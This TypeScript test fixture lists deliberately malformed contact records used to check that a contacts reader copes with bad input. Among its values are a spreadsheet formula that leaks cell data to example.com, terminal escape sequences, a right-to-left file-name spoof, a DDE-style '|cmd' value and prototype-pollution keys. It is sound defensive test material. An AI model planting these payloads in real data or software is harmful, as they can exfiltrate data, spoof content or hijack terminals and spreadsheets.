export type Part = 'name' | 'email' | 'phone' | 'tags' | 'lastMessage';

// biome-ignore lint/suspicious/noExplicitAny: these records break the types on purpose
type AnyRecord = any;

export interface HostileRecord {
  /** What was typed as the name, with bad intent or by mistake. */
  readonly name?: string;
  /** What the record does not hold: no filter or search finds it by that. */
  readonly lacks?: readonly Part[];
  readonly corrupt?: (record: AnyRecord) => void;
}

const contact: readonly Part[] = ['email', 'phone'];
const details: readonly Part[] = ['name', ...contact, 'tags'];
const noContact = { contact: null, whatsAppNumber: undefined };
const attributes = [
  { key: '__proto__', value: 'polluted' },
  { key: 'constructor', value: { nested: ['=1+1', null] } },
  { key: '', value: 'no key' },
  null,
];

/** What strangers, imports and old versions leave behind; a reader has to survive each. */
export const hostileRecords: readonly HostileRecord[] = [
  { name: '\u001b[31mRed Alert\u001b[0m' },
  { lacks: contact, corrupt: ({ profile }) => Object.assign(profile.userDetails, { contact: {} }) },
  { name: '=HYPERLINK("https://example.com/?leak="&A1,"Open me")' },
  { lacks: details, corrupt: ({ profile }) => delete profile.userDetails },
  { name: '\u202Egnp.eciovni' },
  { lacks: contact, corrupt: ({ profile }) => Object.assign(profile.userDetails, noContact) },
  { name: '\nLeading newline' },
  { lacks: ['lastMessage'], corrupt: (raw) => delete raw.lastMessage },
  { name: '\u001b]0;owned\u0007 👩‍👩‍👧‍👦 Familie' },
  { lacks: ['tags'], corrupt: ({ profile }) => delete profile.userDetails.tags },
  { name: `Long ${'Longer '.repeat(40)}Longest` },
  { lacks: details, corrupt: (raw) => Object.assign(raw, { profile: null }) },
  { name: 'Half an emoji \ud83d', lacks: ['email'] },
  { corrupt: ({ profile }) => Object.assign(profile.userDetails, { attributes }) },
  { name: '+SUM(1;1)|cmd\t"quoted", and more' },
  { corrupt: (raw) => Object.assign(raw, { platform: raw.platform[0], unreadMessages: '3' }) },
];
